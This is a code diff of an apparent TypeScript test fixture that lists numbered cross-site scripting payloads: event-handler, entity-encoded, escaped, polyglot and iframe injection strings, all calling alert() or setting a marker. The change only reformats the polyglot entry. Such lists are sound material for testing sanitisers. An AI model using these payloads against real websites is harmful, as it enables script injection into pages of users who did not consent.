@@ -30,7 +30,11 @@ export const XSS_PAYLOADS: readonly Payload[] = [
   P(17, "event handler", "<marquee onstart=alert(17)>"),
   P(18, "event handler, entities", "<img src=x onerror=&#97;&#108;&#101;&#114;&#116;&#40;18&#41;>"),
   P(19, "event handler, JS escape", "<img src=x onerror=\\u0061lert(19)>"),
-  P(20, "polyglot", "jaVasCript:/*-/*`/*\\`/*'/*\"/**/(/* */oNcliCk=alert(20) )//</stYle/</titLe/</teXtarEa/</scRipt/--!>\\x3csVg/<sVg/oNloAd=alert(20)//>\\x3e"),
+  P(
+    20,
+    "polyglot",
+    "jaVasCript:/*-/*`/*\\`/*'/*\"/**/(/* */oNcliCk=alert(20) )//</stYle/</titLe/</teXtarEa/</scRipt/--!>\\x3csVg/<sVg/oNloAd=alert(20)//>\\x3e",
+  ),
   // Frames, objects and other active elements
   P(21, "iframe srcdoc", '<iframe srcdoc="<script>parent.__xss=21</script>"></iframe>'),
   P(22, "iframe javascript:", '<iframe src="javascript:alert(22)"></iframe>'),
